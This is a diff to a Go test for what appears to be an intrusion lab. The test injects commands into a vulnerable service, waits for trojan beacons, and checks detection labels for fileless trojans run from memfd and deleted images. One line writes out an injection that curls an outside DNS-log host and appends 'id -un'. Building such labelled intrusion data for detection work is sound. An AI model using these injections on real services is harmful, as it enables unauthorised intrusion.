@@ -29,15 +29,21 @@ func TestIntrusionHappensAndLeavesNothing(t *testing.T) {
 			}
 		}
 	}()
-	if answer, err := lab.Request(ctx); err != nil || !strings.Contains(answer, "localhost") {
-		t.Fatalf("the service does not do its work: %q, %v", answer, err)
+	honest, err := lab.Request(ctx)
+	if err != nil || !strings.HasSuffix(honest, "localhost\n") {
+		t.Fatalf("the service does not do its work: %q, %v", honest, err)
 	}
 	for _, round := range Rounds {
 		if _, err := lab.Inject(ctx, round.Command()); err != nil {
 			t.Fatal(err)
 		}
-		if err := lab.WaitBeacon(ctx, round.Path); err != nil {
+		if err := lab.WaitBeacon(ctx, round.Path, 1); err != nil {
 			t.Fatal(err)
+		}
+	}
+	for _, command := range Rounds[0].Fileless() {
+		if answer, err := lab.Inject(ctx, command); err != nil || answer != honest {
+			t.Errorf("%s answered %q, %v", command, answer, err)
 		}
 	}
 	if answer, err := lab.Inject(ctx, "curl -s http://"+DNSLog+"/t > /dev/null; id -un"); err != nil || !strings.Contains(answer, serviceUser) {
@@ -51,8 +57,16 @@ func checkLabels(t *testing.T, labels Labels) {
 	if len(labels.Shells) != len(labels.Commands)+1 {
 		t.Errorf("%d shells for %d commands and one honest request", len(labels.Shells), len(labels.Commands))
 	}
-	if len(labels.Trojans) != len(Rounds) || labels.Beacons < 2*len(Rounds) {
-		t.Errorf("%d trojans and %d beacons for %d rounds", len(labels.Trojans), labels.Beacons, len(Rounds))
+	var images []string
+	for _, trojan := range labels.Trojans {
+		images = append(images, trojan.Path)
+	}
+	if len(images) != 4 || images[0] != Rounds[0].Path || images[1] != Rounds[1].Path ||
+		!strings.HasPrefix(images[2], "/memfd:") || !strings.HasSuffix(images[3], " (deleted)") {
+		t.Errorf("images %q", images)
+	}
+	if labels.Beacons < 2*len(images) {
+		t.Errorf("%d beacons of %d trojans", labels.Beacons, len(images))
 	}
 	if want := []string{"/t", "/u", "/t"}; !slices.Equal(labels.Downloads, want) {
 		t.Errorf("downloads %v, want %v", labels.Downloads, want)
